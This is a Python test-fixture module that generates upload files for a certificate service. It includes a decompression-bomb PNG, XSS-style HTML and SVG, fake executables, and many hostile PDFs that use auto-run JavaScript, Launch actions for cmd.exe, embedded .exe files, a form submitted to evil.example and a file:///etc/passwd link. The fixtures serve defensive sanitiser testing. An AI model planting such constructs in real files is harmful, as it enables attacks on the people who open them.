"""Files for upload tests, made here: real photos, and the attack cases of SECURITY.md."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def jpeg(
    size=(400, 300),
    colour=(158, 63, 30),
    orientation: int | None = None,
    gps: bool = False,
    quality: int = 90,
) -> bytes:
    image = Image.new("RGB", size, colour)
    image.paste((250, 250, 250), (0, 0, size[0] // 4, size[1] // 4))  # a corner marks "up"
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x013B] = "Fotografer Rahasia"  # Artist
        exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 28.0, 12.0), 3: "E", 4: (112.0, 26.0, 3.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", quality=quality, exif=exif.tobytes())
    return out.getvalue()


def noisy_jpeg(size=(1200, 900)) -> bytes:
    """A photo that does not compress away (random noise)."""
    import os

    image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90)
    return out.getvalue()


def png(size=(300, 200), mode="RGBA") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (20, 120, 60, 128) if mode == "RGBA" else (20, 120, 60)).save(out, "PNG")
    return out.getvalue()


def webp(size=(300, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 30, 200)).save(out, "WEBP")
    return out.getvalue()


def tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (50, 50)).save(out, "TIFF")
    return out.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG that claims to be huge: a decompression bomb in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = jpeg(size=(800, 600), quality=95)
    return data[: len(data) // 2]


HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>'
EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 200
    + b"This program cannot be run in DOS mode"
)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 300


def pdf(text: str = "SERTIFIKAT HALAL") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (600, 800), (250, 250, 240)).save(out, "PDF")
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt(user_password="rahasia", owner_password="rahasia")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    """A PDF that runs a script when opened."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hi');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# -- hand-made PDFs: every byte chosen, so that the hostile spellings stay as written ----------

PAGE_CONTENT = b"BT /F1 24 Tf 72 700 Td (SERTIFIKAT HALAL) Tj ET"


def handmade_pdf(
    catalog: bytes = b"",
    page: bytes = b"",
    objects: dict[int, bytes] | None = None,
    compressed: bool = False,
    kids: bytes = b"[3 0 R]",
) -> bytes:
    """A one-page PDF: ``catalog`` and ``page`` are added to those dictionaries as written
    (``#``-escaped names and all); ``objects`` are further objects from number 10 on.

    ``compressed`` puts every dictionary in a compressed object stream with a cross-reference
    stream, as modern writers do: nothing of them is then readable in the file's bytes.
    """
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids " + kids + b" /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        + b"/Resources << /Font << /F1 5 0 R >> >> "
        + page
        + b" >>",
        4: _stream(b"", PAGE_CONTENT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(objects or {}),
    }
    return _compressed_pdf(bodies) if compressed else _plain_pdf(bodies)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def _plain_pdf(bodies: dict[int, bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    size = max(bodies) + 1
    offsets = {}
    for number in sorted(bodies):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, bodies[number])
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def _compressed_pdf(bodies: dict[int, bytes]) -> bytes:
    packed = {n: b for n, b in bodies.items() if b"stream\n" not in b}
    direct = {n: b for n, b in bodies.items() if n not in packed}
    container, xref_number = max(bodies) + 1, max(bodies) + 2
    header, payload = [], bytearray()
    for number in sorted(packed):
        header.append(b"%d %d" % (number, len(payload)))
        payload += packed[number] + b"\n"
    first = b" ".join(header) + b"\n"
    data = zlib.compress(first + bytes(payload))
    direct[container] = _stream(
        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(first)), data
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(direct):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, direct[number])
    offsets[xref_number] = len(out)
    index = {number: i for i, number in enumerate(sorted(packed))}
    rows = bytearray(struct.pack(">BIH", 0, 0, 65535))
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in index:
            rows += struct.pack(">BIH", 2, container, index[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 0)
    rows = zlib.compress(bytes(rows))
    dictionary = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % (
        xref_number + 1
    )
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, _stream(dictionary, rows))
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def _link(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 72 300 100] /A " + action + b" >>]"


# Ways a PDF runs a script or opens something when viewed, as hand-made files are spelled.
HOSTILE_PDFS = {
    "escaped-open-action": dict(catalog=b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),
    "escaped-launch-in-a-link": dict(page=_link(b"<< /S /L#61unch /F (cmd.exe) >>")),
    "script-on-an-annotation-event": dict(
        page=b"/Annots [10 0 R]",
        objects={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/AA << /E << /S /JavaScript /JS (app.alert(1)) >> >> >>"
        },
    ),
    "import-at-the-end-of-a-next-chain": dict(
        catalog=b"/OpenAction 10 0 R",
        objects={
            10: b"<< /S /GoTo /D [3 0 R /Fit] /Next [11 0 R 12 0 R] >>",
            11: b"<< /S /GoTo /D [3 0 R /Fit] >>",
            12: b"<< /S /Named /N /NextPage /Next 13 0 R >>",
            13: b"<< /Type /Action /S /ImportData /F (data.fdf) >>",
        },
    ),
    "script-in-the-names-tree": dict(
        catalog=b"/Names << /JavaScript 10 0 R >>",
        objects={
            10: b"<< /Names [(start) 11 0 R] >>",
            11: b"<< /S /JavaScript /JS (app.alert(1)) >>",
        },
    ),
    "catalog-additional-actions": dict(catalog=b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "escaped-additional-actions": dict(catalog=b"/#41A << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "page-opens-a-script": dict(page=b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "xfa-form": dict(
        catalog=b"/AcroForm << /Fields [] /XFA 10 0 R >>",
        objects={10: _stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")},
    ),
    "embedded-file": dict(
        catalog=b"/Names << /EmbeddedFiles << /Names [(faktur.exe) 10 0 R] >> >>",
        objects={
            10: b"<< /Type /Filespec /F (faktur.exe) /EF << /F 11 0 R >> >>",
            11: _stream(b"", b"MZ\x90\x00"),
        },
    ),
    "file-attachment-annotation": dict(
        page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R >>]",
        objects={10: b"<< /Type /Filespec /F (catatan.txt) >>"},
    ),
    "form-sent-elsewhere": dict(
        page=_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/ambil) >> >>")
    ),
    "opens-another-pdf": dict(
        catalog=b"/OpenAction << /S /GoToR /F (lain.pdf) /D [0 /Fit] >>",
    ),
    "javascript-link": dict(page=_link(b"<< /S /URI /URI (javascript:app.alert(1)) >>")),
    "javascript-link-in-disguise": dict(
        page=_link(b"<< /S /URI /URI ( JaVa\\tScRiPt:alert(1)) >>")
    ),
    "file-link": dict(page=_link(b"<< /S /URI /URI (file:///etc/passwd) >>")),
    "script-in-an-outline": dict(
        catalog=b"/Outlines 10 0 R",
        objects={
            10: b"<< /Type /Outlines /First 11 0 R /Last 12 0 R /Count 2 >>",
            11: b"<< /Title (Satu) /Parent 10 0 R /Next 12 0 R /Dest [3 0 R /Fit] >>",
            12: b"<< /Title (Dua) /Parent 10 0 R /Prev 11 0 R "
            b"/A << /S /JavaScript /JS (app.alert(1)) >> >>",
        },
    ),
    "action-named-by-reference": dict(
        catalog=b"/OpenAction << /S 10 0 R /F (calc.exe) >>", objects={10: b"/Launch"}
    ),
    "unknown-action": dict(page=_link(b"<< /S /Hide /T (field) >>")),
}

# What a plain certificate may contain: web links, page links, outlines, tags, page labels.
HARMLESS_PDFS = {
    "plain": dict(),
    "web-and-mail-links": dict(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://bpjph.halal.go.id/) >> >> "
        b"<< /Type /Annot /Subtype /Link /Rect [0 20 9 29] "
        b"/A << /S /URI /URI (mailto:info@example.com) >> >>]"
    ),
    "next-chain-back-to-itself": dict(
        catalog=b"/OpenAction 10 0 R",
        objects={
            10: b"<< /S /GoTo /D [3 0 R /Fit] /Next [11 0 R 10 0 R] >>",
            11: b"<< /S /Named /N /FirstPage /Next 10 0 R >>",
        },
    ),
    "outlines-tags-and-labels": dict(
        catalog=b"/Outlines 10 0 R /PageLabels << /Nums [0 << /S /D >>] >> "
        b"/MarkInfo << /Marked true >> /StructTreeRoot 12 0 R",
        objects={
            10: b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
            11: b"<< /Title (Sertifikat) /Parent 10 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            12: b"<< /Type /StructTreeRoot /K << /S /P /Pg 3 0 R /K 0 >> >>",
        },
    ),
}


# -- photos that carry metadata in every place a camera or an editor puts it -------------------

SECRET = b"Rumah Jl. Rahasia 7, Mojokerto"


def jpeg_with_metadata(size=(800, 600)) -> bytes:
    """A JPEG with a comment (COM), EXIF, XMP (APP1), an ICC profile (APP2) and IPTC in
    Photoshop's APP13, each holding ``SECRET``."""
    from PIL import ImageCms

    image = Image.new("RGB", size, (158, 63, 30))
    exif = Image.Exif()
    exif[0x013B] = SECRET.decode()  # Artist
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description>' + SECRET + b"</rdf:Description>"
    xmp += b"</x:xmpmeta>"
    iptc = b"\x1c\x02\x78" + struct.pack(">H", len(SECRET)) + SECRET  # 2:120 caption
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(iptc)) + iptc
    app13 = b"Photoshop 3.0\x00" + resource
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + SECRET
    out = io.BytesIO()
    image.save(
        out,
        "JPEG",
        quality=90,
        comment=SECRET,
        exif=exif.tobytes(),
        xmp=xmp,
        icc_profile=icc,
        extra=b"\xff\xed" + struct.pack(">H", len(app13) + 2) + app13,
    )
    return out.getvalue()


def png_with_text(size=(300, 200)) -> bytes:
    """A PNG with text chunks (tEXt, zTXt, iTXt), one of them named "comment"."""
    from PIL import PngImagePlugin

    text = PngImagePlugin.PngInfo()
    text.add_text("comment", SECRET.decode())
    text.add_text("Author", SECRET.decode(), zip=True)
    text.add_itxt("Description", SECRET.decode(), lang="id")
    out = io.BytesIO()
    Image.new("RGB", size, (20, 120, 60)).save(out, "PNG", pnginfo=text)
    return out.getvalue()


def jpeg_segments(data: bytes) -> list[int]:
    """The markers of a JPEG's segments before the image data (0xFFE0 is APP0, 0xFFFE COM)."""
    assert data[:2] == b"\xff\xd8"
    markers, at = [], 2
    while at < len(data):
        assert data[at] == 0xFF
        marker = 0xFF00 | data[at + 1]
        markers.append(marker)
        if marker == 0xFFDA:  # start of scan: entropy-coded data follows
            return markers
        (length,) = struct.unpack(">H", data[at + 2 : at + 4])
        at += 2 + length
    return markers


def _s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def _icc_tag(kind: bytes, body: bytes) -> bytes:
    body = kind + b"\0" * 4 + body
    return body + b"\0" * (-len(body) % 4)


def swapped_primaries_profile() -> bytes:
    """An RGB display profile (ICC v2, matrix and gamma 2.2) whose red and green primaries
    are sRGB's green and red: a pixel stored as pure red means pure green. A colour-managed
    upload shows it; a pipeline that drops the profile shows red."""
    red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7141)
    white = (0.9642, 1.0, 0.8249)  # D50, the profile connection space

    def xyz(point):
        return _icc_tag(b"XYZ ", b"".join(_s15(v) for v in point))

    gamma = _icc_tag(b"curv", struct.pack(">IH", 1, round(2.2 * 256)))
    name = b"swapped\0"
    tags = [
        (b"desc", _icc_tag(b"desc", struct.pack(">I", len(name)) + name + b"\0" * 78)),
        (b"wtpt", xyz(white)),
        (b"rXYZ", xyz(green)),
        (b"gXYZ", xyz(red)),
        (b"bXYZ", xyz(blue)),
        (b"rTRC", gamma),
        (b"gTRC", gamma),
        (b"bTRC", gamma),
        (b"cprt", _icc_tag(b"text", b"none\0")),
    ]
    offset, table, data = 128 + 4 + 12 * len(tags), b"", b""
    for signature, body in tags:
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body
    header = (
        struct.pack(">I", offset + len(data))
        + b"lcms"
        + bytes([2, 0x10, 0, 0])
        + b"mntrRGB XYZ "
        + b"\0" * 12
        + b"acspAPPL"
        + b"\0" * 24
        + b"".join(_s15(v) for v in white)
        + b"\0" * 48
    )
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + data


def tagged_jpeg(profile: bytes, size=(200, 150), colour=(255, 0, 0)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG", quality=95, icc_profile=profile)
    return out.getvalue()
